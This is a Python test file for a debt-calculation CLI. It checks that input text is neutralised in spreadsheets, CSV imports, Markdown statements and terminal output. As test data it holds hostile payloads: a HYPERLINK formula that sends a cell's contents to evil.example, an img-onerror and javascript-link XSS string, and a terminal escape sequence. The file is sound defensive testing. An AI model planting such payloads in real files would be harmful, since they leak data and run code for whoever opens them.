"""Text from input files never runs: not as a spreadsheet formula (summary workbook, import CSV),
not as HTML or a link in Markdown, not as an escape sequence or rich markup on the terminal."""

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

from tests.conftest import EXAMPLES

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_summary_workbook_stores_input_text_as_text(tmp_path, run_cli):
    cases = tmp_path / "cases"
    cases.mkdir()
    shutil.copytree(EXAMPLES / "bank-loan", cases / "=1+2")
    (cases / "@SUM(A1)").mkdir()  # an account that cannot be read: its name lands on the Unreadable sheet
    (cases / "@SUM(A1)" / "case.toml").write_text('schema = "debtcli/1"\n', encoding="utf-8")
    out, xlsx = tmp_path / "r.jsonl", tmp_path / "s.xlsx"
    run_cli("batch", cases, "--out", out, "--summary", xlsx, "--workers", "1")
    with zipfile.ZipFile(xlsx) as z:
        sheets = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}
        strings = z.read("xl/sharedStrings.xml").decode("utf-8")
    formulas = [f.split("</f>")[0] for text in sheets.values() for f in text.split("<f>")[1:]]
    # only our own: the totals (SUM of a range) and each Components row's excess (demanded - lawful)
    ours = re.compile(r"SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)|[A-Z]+[0-9]+-[A-Z]+[0-9]+")
    assert formulas and all(ours.fullmatch(f) for f in formulas), formulas
    assert "=1+2" in strings and "@SUM(A1)" in strings


def test_import_csv_neutralises_formula_text(tmp_path, run_cli):
    (tmp_path / "payments.csv").write_text(
        "date,amount,reference,payer\n"
        f'2024-01-05,100.00,"{FORMULA.replace(chr(34), chr(34) * 2)}",+cmd\n2024-01-06,50.00,@x,-y\n', encoding="utf-8")
    code, out, err = run_cli("import", tmp_path / "payments.csv", "--kind", "payments")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[1][3:5] == ["'" + FORMULA, "'+cmd"]
    assert rows[2][2:5] == ["50.00", "'@x", "'-y"]


def test_markdown_statement_escapes_html_and_links(tmp_path, run_cli):
    case = tmp_path / "c"
    shutil.copytree(EXAMPLES / "private-loan", case)
    toml = (case / "case.toml").read_text(encoding="utf-8")
    evil = '<img src=x onerror=alert(1)> [click](javascript:alert(1))'
    toml = toml.replace('borrower = "张三"', f'borrower = "{evil}"', 1)
    assert evil in toml
    (case / "case.toml").write_text(toml, encoding="utf-8")
    md = tmp_path / "s.md"
    code, _, err = run_cli("statement", case, "--format", "md", "-o", md)
    assert code in (0, 1), err
    text = md.read_text(encoding="utf-8")
    assert "<img" not in text and "[click](javascript:" not in text
    assert "&lt;img src=x onerror=alert(1)&gt; \\[click\\](javascript:alert(1))" in text


def test_terminal_prints_markup_and_escapes_literally(tmp_path, run_cli):
    case = tmp_path / "c"
    shutil.copytree(EXAMPLES / "private-loan", case)
    toml = (case / "case.toml").read_text(encoding="utf-8")
    start = toml.index("id = ")
    end = toml.index("\n", start)
    toml = toml[:start] + 'id = "X[/x][bold]Y\\u001b]0;pwned\\u0007"' + toml[end:]
    (case / "case.toml").write_text(toml, encoding="utf-8")
    code, out, err = run_cli("verify", case)
    assert code in (0, 1), err
    assert "X[/x][bold]Y\\x1b]0;pwned\\x07" in out
    assert "\x1b]0;" not in out
